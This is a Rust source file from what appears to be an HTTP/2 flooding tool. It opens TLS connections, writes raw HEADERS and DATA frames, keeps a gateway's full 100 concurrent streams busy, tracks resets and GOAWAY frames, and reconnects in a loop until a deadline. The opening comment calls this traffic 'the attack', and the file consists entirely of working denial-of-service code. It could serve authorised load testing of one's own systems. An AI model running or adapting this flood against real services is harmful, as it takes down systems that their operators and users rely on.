//! One HTTP/2 connection at the level of frames: written by the attack, read here, if at all.

use std::io;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt, ReadHalf, WriteHalf, split};
use tokio::net::TcpStream;
use tokio::sync::Notify;
use tokio::task::JoinHandle;
use tokio::time::{Instant, timeout};
use tokio_rustls::client::TlsStream;

use crate::dial::{Dialer, Speech};
use crate::frames::{DATA, END_HEADERS, END_STREAM, FRAME_HEADER, GO_AWAY, HEADERS, Head, RESET, frame, opening};

/// Streams the gateway allows a connection.
pub(crate) const STREAMS: u64 = 100;
/// Who cannot write for so long is being held up; the connection is given up.
const STUCK: Duration = Duration::from_secs(5);

/// A connection that asks for the same thing again and again.
#[derive(Debug)]
pub(crate) struct Wire {
    write: WriteHalf<TlsStream<TcpStream>>,
    head: Head,
    next: u32,
    sent: u64,
    seen: Arc<Seen>,
    reading: JoinHandle<()>,
}

/// What came back.
#[derive(Debug, Default)]
pub(crate) struct Seen {
    /// Streams the gateway has ended, answered or not.
    ended: AtomicU64,
    /// Answers that have begun and go on.
    heads: AtomicU64,
    gone: AtomicBool,
    changed: Notify,
}

impl Drop for Wire {
    fn drop(&mut self) {
        self.reading.abort();
    }
}

impl Wire {
    /// Opens a connection and says what a client says first.
    pub(crate) async fn open(dialer: &Dialer, head: &Head) -> io::Result<Self> {
        let (read, mut write) = split(dialer.tls(Speech::H2).await?);
        write.write_all(&opening()).await?;
        let seen = Arc::new(Seen::default());
        let reading = tokio::spawn(look(read, Arc::clone(&seen)));
        Ok(Self { write, head: head.clone(), next: 1, sent: 0, seen, reading })
    }

    /// Adds a request to `octets`; returns its stream. `flags` may say `END_STREAM`.
    pub(crate) fn ask(&mut self, octets: &mut Vec<u8>, flags: u8) -> u32 {
        let stream = self.next;
        self.next += 2;
        let block = if self.sent == 0 { &self.head.first } else { &self.head.again };
        frame(octets, (HEADERS, END_HEADERS | flags), stream, block);
        self.sent += 1;
        stream
    }

    /// Adds a request with a whole body.
    pub(crate) fn post(&mut self, octets: &mut Vec<u8>, body: &[u8]) -> u32 {
        let stream = self.ask(octets, 0);
        frame(octets, (DATA, END_STREAM), stream, body);
        stream
    }

    /// Sends what was added.
    pub(crate) async fn send(&mut self, octets: &[u8]) -> io::Result<()> {
        timeout(STUCK, async {
            self.write.write_all(octets).await?;
            self.write.flush().await
        })
        .await?
    }

    /// Requests asked so far.
    pub(crate) fn asked(&self) -> u64 {
        self.sent
    }

    /// Answers that have begun, though not ended.
    pub(crate) fn begun(&self) -> u64 {
        self.seen.heads.load(Relaxed)
    }

    /// Requests that are still running.
    pub(crate) fn running(&self) -> u64 {
        self.sent.saturating_sub(self.seen.ended.load(Relaxed))
    }

    /// Whether the gateway has ended it, or it has used up its streams.
    pub(crate) fn is_over(&self) -> bool {
        self.seen.gone.load(Relaxed) || self.next > (1 << 31) - 1_000
    }

    /// Until something came back, at most so long.
    pub(crate) async fn wait(&self, most: Duration) {
        let _ = timeout(most, self.seen.changed.notified()).await;
    }
}

/// Reads frames and counts the ends of streams.
async fn look(mut read: ReadHalf<TlsStream<TcpStream>>, seen: Arc<Seen>) {
    let (mut kept, mut piece) = (Vec::new(), vec![0; 64 << 10]);
    loop {
        match read.read(&mut piece).await {
            Ok(0) | Err(_) => break,
            Ok(length) => kept.extend_from_slice(&piece[..length]),
        }
        let mut at = 0;
        while let Some(header) = kept.get(at..at + FRAME_HEADER) {
            let length = usize::from(header[0]) << 16 | usize::from(header[1]) << 8 | usize::from(header[2]);
            let (kind, flags) = (header[3], header[4]);
            if kept.len() < at + FRAME_HEADER + length {
                break;
            }
            at += FRAME_HEADER + length;
            let ends = kind == RESET || (matches!(kind, DATA | HEADERS) && flags & END_STREAM != 0);
            seen.ended.fetch_add(u64::from(ends), Relaxed);
            seen.heads.fetch_add(u64::from(kind == HEADERS && !ends), Relaxed);
            seen.gone.fetch_or(kind == GO_AWAY, Relaxed);
        }
        kept.drain(..at);
        seen.changed.notify_one();
    }
    seen.gone.store(true, Relaxed);
    seen.changed.notify_one();
}

/// Asks as fast as answers come, on one connection after the other. Returns the requests and the connections.
pub(crate) async fn flood(dialer: &Dialer, head: &Head, until: Instant) -> (u64, u64) {
    let (mut asked, mut opened) = (0, 0);
    while Instant::now() < until {
        let Ok(mut wire) = Wire::open(dialer, head).await else {
            tokio::time::sleep(AGAIN).await;
            continue;
        };
        opened += 1;
        let mut octets = Vec::new();
        while !wire.is_over() && Instant::now() < until {
            octets.clear();
            for _ in wire.running()..STREAMS {
                wire.ask(&mut octets, END_STREAM);
            }
            if octets.is_empty() {
                wire.wait(Duration::from_millis(100)).await;
            } else if wire.send(&octets).await.is_err() {
                break;
            }
        }
        asked += wire.asked();
        if wire.asked() <= STREAMS {
            tokio::time::sleep(AGAIN).await;
        }
    }
    (asked, opened)
}

/// Turned away, one comes back this soon.
pub(crate) const AGAIN: Duration = Duration::from_millis(20);
